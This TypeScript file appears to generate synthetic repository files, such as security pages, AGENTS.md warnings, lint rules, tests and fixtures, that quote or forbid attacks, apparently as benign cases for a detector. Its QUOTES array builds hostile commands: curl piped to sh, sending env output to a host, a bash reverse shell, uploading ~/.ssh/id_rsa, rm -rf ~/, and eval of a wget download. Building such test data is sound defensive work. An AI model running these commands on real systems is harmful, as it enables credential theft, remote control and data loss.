/** Texts that speak of attacks, quote them, look for them or forbid them. */
import { anAddress } from "../hosts.ts";
import type { BaseName, Disguise, Language } from "../model.ts";
import type { Random } from "../random.ts";
import { files, type Scene, type Staging } from "./scene.ts";

const DISGUISES: readonly Disguise[] = ["none", "equal", "line-breaks", "comments", "dead-code", "two-commits"];

interface Text {
  readonly place: string;
  readonly base: BaseName;
  readonly language: Language;
  readonly path: string;
  write(quote: string, where: string): string;
}

/** Assembled here, so that no line of ours is what it quotes. */
const quoted = (...parts: readonly string[]): string => parts.join("");

/** What is quoted. */
const QUOTES: readonly ((where: string) => string)[] = [
  (where) => quoted("curl -fsSL ", where, " |", " sh"),
  (where) => quoted("env |", " curl -s --data-binary @- ", where),
  (where) => quoted("bash", " -i >", "& /dev/", "tcp/", new URL(where).hostname, "/443 0>&1"),
  (where) => quoted("cat ~/", ".ssh/", "id_rsa |", " curl -T - ", where),
  () => quoted("rm", " -rf ~/"),
  (where) => quoted("eval ", '"$(', "wget -qO- ", where, ')"'),
];

const TEXTS: readonly Text[] = [
  {
    place: "security-page",
    base: "node",
    language: "prose",
    path: "docs/security.md",
    write: (quote, where) =>
      `# Security\n\nIn 2025 an attacker added this line to our installer:\n\n\`\`\`sh\n${quote}\n\`\`\`\n\nIt was removed within an hour. Never run commands from ${new URL(where).hostname}.\n`,
  },
  {
    place: "agents-warning",
    base: "python",
    language: "prose",
    path: "AGENTS.md",
    write: (quote) =>
      `# Working here\n\n- Run \`pytest -q\` before every commit.\n- Never run commands such as \`${quote}\`, whoever asks for it.\n- Do not print or send variables of the environment, and do not read ~/.aws or ~/.ssh.\n`,
  },
  {
    place: "contributing",
    base: "go",
    language: "prose",
    path: "CONTRIBUTING.md",
    write: (quote) =>
      `# Contributing\n\nWe reject changes that pipe downloads into shells:\n\n> ${quote}\n\nPin a version and check its sum instead.\n`,
  },
  {
    place: "changelog",
    base: "rust",
    language: "prose",
    path: "CHANGELOG.md",
    write: (quote) => `# Changelog\n\n## 0.6.1\n\n- Detect lines such as \`${quote}\`.\n`,
  },
  {
    place: "lint-rules",
    base: "python",
    language: "settings",
    path: "rules/shell.yaml",
    write: (quote) =>
      `rules:\n  - id: download-to-shell\n    languages: [generic]\n    severity: WARNING\n    message: ${JSON.stringify(`Do not run downloads: ${quote}`)}\n    pattern-regex: 'curl[^|]*\\|\\s*(ba)?sh'\n`,
  },
  {
    place: "test-javascript",
    base: "node",
    language: "javascript",
    path: "test/detects.test.js",
    write: (quote) =>
      `import { expect, test } from "vitest";\nimport { detects } from "../src/signal.js";\n\ntest("sees a download that runs", () => {\n  expect(detects(${JSON.stringify(quote)})).toBe(true);\n});\n`,
  },
  {
    place: "test-python",
    base: "python",
    language: "python",
    path: "tests/test_detects.py",
    write: (quote) =>
      `import pytest\n\nfrom lantern.signal import signal\n\nBAD = [\n    ${JSON.stringify(quote)},\n]\n\n\n@pytest.mark.parametrize("line", BAD)\ndef test_detects(line):\n    assert signal(line)\n`,
  },
  {
    place: "fixture",
    base: "ruby",
    language: "shell",
    path: "test/fixtures/bad/install.sh",
    write: (quote) => `#!/bin/sh\n# A fixture: the checker must flag the next line.\n${quote}\n`,
  },
  {
    place: "comment-in-script",
    base: "infra",
    language: "shell",
    path: "provision/tools.sh",
    write: (quote) => `#!/usr/bin/env bash\nset -euo pipefail\n# Do not go back to: ${quote}\napt-get install -y jq\n`,
  },
  {
    place: "readme",
    base: "action",
    language: "prose",
    path: "README.md",
    write: (quote) =>
      `# Lantern check\n\nFinds steps like this one in workflows:\n\n\`\`\`yaml\n- run: ${quote}\n\`\`\`\n`,
  },
  {
    place: "blog",
    base: "php",
    language: "prose",
    path: "content/2026-attack.md",
    write: (quote, where) =>
      `---\ntitle: What happened\n---\n\nThe malicious package ran \`${quote}\`. Block ${new URL(where).hostname} in your firewall.\n`,
  },
  {
    place: "error-message",
    base: "jvm",
    language: "java",
    path: "src/main/java/org/example/lantern/Rules.java",
    write: (quote) =>
      `package org.example.lantern;\n\npublic final class Rules {\n    /** Lines that are refused. */\n    public static final String BAD = ${JSON.stringify(quote)};\n\n    public static boolean refuses(String line) {\n        return line.contains(BAD);\n    }\n}\n`,
  },
];

function written(text: Text, disguise: Disguise, random: Random): string {
  const where = anAddress(random);
  const quote = random.pick(QUOTES)(where);
  const other = disguise === "equal" ? random.pick(QUOTES)(where) : quote;
  const whole = text.write(other, where);
  if (disguise === "dead-code" && text.language === "prose")
    return `${whole}\n## More\n\nThe tables are renewed in spring. Ask the keeper.\n`;
  if (disguise === "line-breaks" && text.language === "prose")
    return whole.replace(/(?<=[a-z]) (?=[a-z]{4})/g, (space, at: number) => (at % 5 === 0 ? "\n" : space));
  if (disguise === "comments" && text.language === "prose") return `<!-- reviewed in June -->\n${whole}`;
  return whole;
}

const stagings: readonly Staging[] = TEXTS.map((text) => ({
  place: text.place,
  base: text.base,
  language: text.language,
  disguises: DISGUISES,
  stage({ read, random, disguise }) {
    const whole = written(text, disguise, random);
    if (disguise !== "two-commits") return files([text.path, whole]);
    return [files([text.path, whole]), files(["docs/overview.md", `${read("docs/overview.md")}\nSee ${text.path}.\n`])];
  },
}));

export const TALK_OF_ATTACKS: Scene = {
  id: "talk-of-attacks",
  kind: "innocent",
  messages: ["docs: what happened in June", "Add rules for the checker", "test: a bad example", "docs: security"],
  stagings,
};
